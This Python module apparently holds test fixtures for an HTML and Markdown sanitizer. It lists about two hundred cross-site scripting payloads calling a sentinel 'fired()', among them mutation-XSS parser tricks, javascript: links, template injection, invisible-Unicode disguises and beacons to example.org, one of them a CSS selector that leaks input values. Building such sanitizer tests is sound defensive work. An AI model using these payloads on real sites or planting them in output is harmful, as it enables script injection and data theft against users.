"""What a model or a person may write to break out of the page: to call `fired`, or to ask example.org."""

# ruff: noqa: E501 - a payload is what it is

from __future__ import annotations

FIRST = (
    "<script>fired()</script>",
    '<img src=x onerror="fired()">',
    "<svg onload=fired()>",
    '<iframe srcdoc="<script>parent.fired()</script>"></iframe>',
    "[click](javascript:fired())",
    '<a href="javascript:fired()">x</a>',
    "<details open ontoggle=fired()>x</details>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fired()&gt;">',
    "<form><input name=attributes><input name=nodeName></form><img src=x onerror=fired()>",
    '<form action="javascript:fired()"><button>go</button></form>',
    "<body onload=fired()>",
    "<video><source onerror=fired()></video>",
    '<object data="javascript:fired()"></object>',
    '<embed src="javascript:fired()">',
    '<a href="data:text/html,<script>fired()</script>">x</a>',
    '<div style="background:url(javascript:fired())">x</div>',
    '<link rel=stylesheet href="javascript:fired()">',
    '<base href="https://example.org/">',
    '<meta http-equiv="refresh" content="0;url=javascript:fired()">',
    '<noscript><p title="</noscript><img src=x onerror=fired()>">',
    "<template><script>fired()</script></template>",
    "<img id=cookie name=cookie src=x onerror=fired()>",
    '<a href="/settings" data-link>settings</a>',
    '<img src="https://example.org/leak.png">',
    "`<script>fired()</script>` <xss onpointerenter=fired() style=display:block>x</xss>",
    "<input autofocus onfocus=fired()>",
    "<select autofocus onfocus=fired()>",
    "<marquee onstart=fired()>x</marquee>",
    "<style>@import 'https://example.org/x.css';</style>",
    '![x](https://example.org/leak.png "onerror=fired()")',
)

# One a line.
MORE = r"""
<ScRiPt>fired()</sCrIpT>
<script src="https://example.org/x.js"></script>
<script src="data:text/javascript,fired()"></script>
<script type=module>fired()</script>
<script type=importmap>{"imports":{"preact":"data:text/javascript,fired()"}}</script>
<script type=speculationrules>{"prefetch":[{"urls":["https://example.org/"]}]}</script>
<scr<script>ipt>fired()</scr</script>ipt>
<script>fired()
<script/x>fired()</script
</script><script>fired()</script>
</textarea><script>fired()</script>
</title><script>fired()</script>
--><script>fired()</script><!--
]]><script>fired()</script>
<!--<img src="--><img src=x onerror=fired()//">
<![CDATA[<script>fired()</script>]]>
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">fired()</script>
<!ENTITY x SYSTEM "https://example.org/x"><script>fired()</script>
"><img src=x onerror=fired()>
'><img src=x onerror=fired()>
" onmouseover="fired()" autofocus onfocus="fired()" x="
' autofocus onfocus=fired() x='
<img src=x onerror=fired()//
<img/src=x/onerror=fired()>
<img src=x onerror=fired&#40;&#41;>
<img src=x onerror=&#102;&#105;&#114;&#101;&#100;()>
<img src="x`<script>fired()</script>"`>
<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImZpcmVkKCkiIHhtbG5zPSJodHRwOi8vd3d3LnczLm9yZy8yMDAwL3N2ZyIvPg==>
<img srcset="https://example.org/leak.png 1x" onload=fired()>
<picture><source srcset="https://example.org/leak.png"><img src=x onerror=fired()></picture>
<image src=x onerror=fired()>
<audio src=x onerror=fired()></audio>
<audio autoplay onplay=fired() src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10"></audio>
<video poster="javascript:fired()" onloadstart=fired() src=x></video>
<track src="https://example.org/x.vtt" onerror=fired()>
<div onpointerover=fired() style="position:fixed;inset:0">x</div>
<div contenteditable autofocus onfocus=fired()>x</div>
<div tabindex=0 autofocus onfocusin=fired()>x</div>
<p onanimationstart=fired() style="animation:rise 1s">x</p>
<p ontransitionend=fired() style="transition:color 1s">x</p>
<textarea autofocus onfocus=fired()></textarea>
<keygen autofocus onfocus=fired()>
<button popovertarget=x>x</button><div popover id=x onbeforetoggle=fired()>y</div>
<dialog open onclose=fired()><form method=dialog><button>x</button></form></dialog>
<details open><summary onfocus=fired() autofocus>x</summary></details>
<xss id=x tabindex=1 onfocus=fired()></xss>
<input type=image src=x onerror=fired()>
<input type=hidden oncontentvisibilityautostatechange=fired() style="content-visibility:auto">
<svg><script>fired()</script></svg>
<svg><script href="data:text/javascript,fired()"/></svg>
<svg><animate onbegin=fired() attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:fired()><a><text>x</text></a></svg>
<svg><a xlink:href="javascript:fired()"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='fired()'/></svg>#x"/></svg>
<svg><foreignObject><body onload=fired()></foreignObject></svg>
<svg><style>@import "https://example.org/x.css";</style></svg>
<svg><image href="https://example.org/leak.png" onload=fired()></svg>
<math href="javascript:fired()">x</math>
<math><maction actiontype="statusline#javascript:fired()" xlink:href="javascript:fired()">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=fired()></annotation-xml></math>
<math><mi><table><mi><style><!--</style><img title="--&gt;&lt;/mi&gt;&lt;img src=x onerror=fired()&gt;">
<svg></p><style><a id="</style><img src=x onerror=fired()>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=fired()>
<noembed><img title="</noembed><img src=x onerror=fired()>"></noembed>
<noframes><img title="</noframes><img src=x onerror=fired()>"></noframes>
<xmp><p title="</xmp><svg/onload=fired()>">
<listing>&lt;img src=x onerror=fired()&gt;</listing>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=fired()>">
<table><td background="javascript:fired()">x</td><form><input></table><img src=x onerror=fired()>
<a><b><a><i><div><a><img src=x onerror=fired()></b></i>
<template shadowrootmode=open><slot onslotchange=fired()></slot><script>fired()</script></template>
<iframe src="javascript:parent.fired()"></iframe>
<iframe src="data:text/html,<script>parent.fired()</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.fired()&gt;" onload=fired()></iframe>
<frameset onload=fired()><frame src="javascript:parent.fired()"></frameset>
<fencedframe src="https://example.org/"></fencedframe><portal src="https://example.org/"></portal>
<applet code="javascript:fired()"></applet><object type="text/html" data="data:text/html,<script>parent.fired()</script>"></object>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.fired()'/>">
<meta http-equiv=refresh content="0;url=https://example.org/">
<meta http-equiv=content-security-policy content="script-src 'unsafe-inline'"><script>fired()</script>
<meta name=referrer content=unsafe-url><img src="https://example.org/leak.png">
<link rel=preload as=script href="https://example.org/x.js" onload=fired()>
<link rel=import href="data:text/html,<script>fired()</script>">
<link rel=prefetch href="https://example.org/leak"><link rel=dns-prefetch href="//example.org">
<link rel=manifest href="https://example.org/manifest.json"><link rel=icon href="https://example.org/leak.ico">
<base href="javascript:fired()//"><a href="x">x</a>
<base target="fired()"><a href="https://example.org/">x</a>
<style>*{background:url(https://example.org/leak.png)}</style>
<style>@font-face{font-family:x;src:url(https://example.org/x.woff)}*{font-family:x}</style>
<style>input[value^="a"]{background:url(https://example.org/a)}</style>
<div style="width:expression(fired())">x</div>
<div style="-moz-binding:url(https://example.org/x.xml#x);behavior:url(x.htc)">x</div>
<div style="background:u\72l(https://example.org/leak.png)">x</div>
<form><button formaction="javascript:fired()">x</button></form>
<form id=f action="https://example.org/"></form><input form=f name=q value=x autofocus onfocus=this.form.submit()>
<isindex action="javascript:fired()" type=submit value=x>
<a href="https://example.org/" ping="https://example.org/ping" id=location name=location>x</a>
<a href="java&#9;script:fired()">x</a>
<a href="&#1;javascript:fired()">x</a>
<a href="javascript&colon;fired()">x</a>
<a href="JaVaScRiPt:fired()">x</a>
<a href="vbscript:fired()">x</a>
<a href="blob:https://example.org/x" download=x onclick=fired()>x</a>
<a target=_blank href="//example.org">x</a>
[x](JAVASCRIPT:fired())
[x](javascript&#58;fired())
[x](java%0ascript:fired())
[x](<javascript:fired()>)
[x](data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+)
[x](vbscript:fired() "y")
[x](https://example.org/"onmouseover="fired())
[x](# "\"><img src=x onerror=fired()>")
[x]: javascript:fired() "y" [x]
<javascript:fired()>
[![x](https://example.org/leak.png)](javascript:fired())
![x](x"onerror="fired())
![x](javascript:fired())
![x](data:text/html,<script>fired()</script>)
![<img src=x onerror=fired()>](https://example.org/leak.png)
![x](data:image/svg+xml,<svg/onload=fired()>)
![x](//example.org/leak.png)
# <svg/onload=fired()>
> <img src=x onerror=fired()>
- [ ] <script>fired()</script>
**<img src=x onerror=fired()>** _<svg onload=fired()>_
~~<iframe srcdoc='<script>parent.fired()</script>'>~~
```"><img src=x onerror=fired()>
&lt;script&gt;fired()&lt;/script&gt;
&amp;lt;img src=x onerror=fired()&amp;gt;
\<script\>fired()\</script\>
%3Cscript%3Efired()%3C/script%3E
${fired()} #{fired()} {{fired()}} <%= fired() %> [[fired()]]
{{constructor.constructor('fired()')()}}
{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };fired()//')}}
<div v-html="'<img src=x onerror=fired()>'" :onclick="fired()" @load="fired()" ng-app ng-init=fired()>x</div>
<div x-data x-init=fired() hx-get="https://example.org/" hx-trigger=load>x</div>
{"__html":"<img src=x onerror=fired()>","dangerouslySetInnerHTML":{"__html":"<svg onload=fired()>"}}
{"__proto__":{"innerHTML":"<img src=x onerror=fired()>"}}
__proto__
constructor
<img name=getElementById><form name=body><input name=firstChild></form><script>fired()</script>
<a id=defaultView></a><a id=defaultView name=location href="javascript:fired()"></a>
$&$`$'<img src=x onerror=fired()>
';fired();//";fired();//`;fired();//</script>
javascript:fired()
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=fired() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=fired()//>\x3e
"""

# Signs that nobody sees, or that look like others.
INVISIBLE = (
    "\u202e>tpircs/<)(derif>tpircs<\u202c<script>fired()</script>",
    "\u2066<img src=x onerror=fired()>\u2069\u200f\u200e",
    "<\u200bscript>fired()</\u200bscript>",
    "\ufeff<script>fired()</script>",
    "\uff1cscript\uff1efired()\uff1c/script\uff1e",
    "\u02bascript\u02ba \u2039img src=x onerror=fired()\u203a",
    "<\u017fcript>fired()</\u017fcript>",
    "<img\u00a0src=x\u3000onerror=fired()>",
    "<img src=x \u2028onerror=fired()\u2029>",
    "[x](java\u00adscript:fired())",
    "[x](\u2003javascript:fired())",
    "<a href='java\nscript:fired()'>x</a>",
    "<img\nsrc=x\nonerror\n=\nfired()>",
    "|a|b|\n|-|-|\n|<svg onload=fired()>|[x](javascript:fired())|",
    "```html onload=fired()\n<script>fired()</script>\n```",
    '```"><img/src=x/onerror=fired()>\nx\n```',
    "    <script>fired()</script>\n\n<script>fired()</script>",
    "[x][1]\n\n[1]: javascript:fired()",
    "[x][1]\n\n[1]: data:text/html,<script>fired()</script> 'y'",
    "<div>\n\n[x](javascript:fired())\n\n<img src=x onerror=fired()>\n</div>",
    "Z\u0335\u0321\u0322a\u0338l\u0337g\u0336o\u0335" * 5 + "<svg onload=fired()>",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467<img src=x onerror=fired()>",
    "<" * 60 + "img src=x onerror=fired()>",
    "[" * 40 + "x" + "](javascript:fired())" * 3,
)

PAYLOADS = (*FIRST, *MORE.strip("\n").split("\n"), *INVISIBLE)
